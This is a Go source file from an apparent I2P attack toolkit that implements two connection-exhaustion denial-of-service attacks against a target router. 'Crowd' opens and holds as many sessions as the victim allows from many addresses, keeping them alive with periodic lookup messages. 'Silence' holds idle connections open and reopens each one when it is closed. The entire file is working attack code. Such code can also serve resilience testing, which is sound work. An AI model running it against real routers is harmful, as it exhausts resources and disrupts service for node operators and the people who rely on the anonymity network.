package attack

import (
	"context"
	"io"
	"math/rand/v2"
	"net/netip"
	"sync"
	"time"

	"i2ptoolkit/pkg/i2np"
	"i2ptoolkit/pkg/routerinfo"
)

// Crowd is sessions that are opened, and kept for good, from many addresses: as many as the
// victim takes.
type Crowd struct {
	Victim *routerinfo.RouterInfo
	Dials  []dialFunc // one for each address, or each range
	V6     bool       // they reach the victim's IPv6 address
	Each   int        // sessions of one of them
	counts
}

// crowdDials is how many of them are being opened at the same time.
const crowdDials = 16

// reopenAfter is the pause before a session that has ended is opened again.
const reopenAfter = 15 * time.Second

// aliveEvery is less than a router takes for idleness.
const aliveEvery = 30 * time.Second

// Run is Attack's.
func (c *Crowd) Run(ctx context.Context) {
	slots := make(chan struct{}, crowdDials)
	var wg sync.WaitGroup
	for _, dial := range c.Dials {
		for range c.Each {
			wg.Go(func() {
				again(ctx, reopenAfter, func() { c.outcome("sessions", c.stay(ctx, slots, dial)) })
			})
		}
	}
	wg.Wait()
}

// stay opens a session, and asks for something until it ends. It is a failure where it
// does not even stand.
func (c *Crowd) stay(ctx context.Context, slots chan struct{}, dial dialFunc) error {
	s, id, err := c.enter(ctx, slots, dial)
	if err != nil {
		return err
	}
	c.add("sessions open", 1)
	defer c.add("sessions open", -1)
	ended, cancel := context.WithCancel(ctx)
	go again(ended, aliveEvery/2+rand.N(aliveEvery/2), func() {
		l := i2np.DatabaseLookup{Key: id.Hash(), From: id.Hash(), Kind: i2np.LookupRouterInfo}
		s.Send(message(i2np.DatabaseLookupType, rand.Uint32(), l.AppendTo(nil)))
	})
	s.Listen(ctx, func(i2np.Message) {})
	cancel()
	return nil
}

func (c *Crowd) enter(ctx context.Context, slots chan struct{}, dial dialFunc) (*Session, *Identity, error) {
	select {
	case slots <- struct{}{}:
		defer func() { <-slots }()
	case <-ctx.Done():
		return nil, nil, ctx.Err()
	}
	id, err := NewIdentity(nil, "LR")
	if err != nil {
		return nil, nil, err
	}
	s, err := OpenSession(ctx, dial, id, c.Victim, c.V6)
	if err != nil {
		return nil, nil, err
	}
	s.conn.SetReadDeadline(time.Now().Add(handshakeTimeout))
	if err := s.Frame(func(i2np.Message) {}); err != nil {
		s.Close()
		return nil, nil, err
	}
	s.conn.SetReadDeadline(time.Time{})
	return s, id, nil
}

// Silence is connections that never say anything: each is opened anew when the victim
// has had enough of it.
type Silence struct {
	Victim *routerinfo.RouterInfo
	Dials  []dialFunc
	V6     bool
	Each   int // connections of one of them
	counts
}

// Run is Attack's.
func (q *Silence) Run(ctx context.Context) {
	at, err := reachedAt(q.Victim, q.V6)
	if err != nil {
		q.outcome("silent connections", err)
		return
	}
	var wg sync.WaitGroup
	for _, dial := range q.Dials {
		for range q.Each {
			wg.Go(func() {
				again(ctx, time.Second, func() { q.outcome("silent connections", q.wait(ctx, dial, at.AddrPort())) })
			})
		}
	}
	wg.Wait()
}

// wait connects, and waits for the victim to close the connection.
func (q *Silence) wait(ctx context.Context, dial dialFunc, to netip.AddrPort) error {
	conn, err := dial(ctx, to)
	if err != nil {
		return err
	}
	defer context.AfterFunc(ctx, func() { conn.Close() })()
	_, err = io.Copy(io.Discard, conn)
	conn.Close()
	return err
}
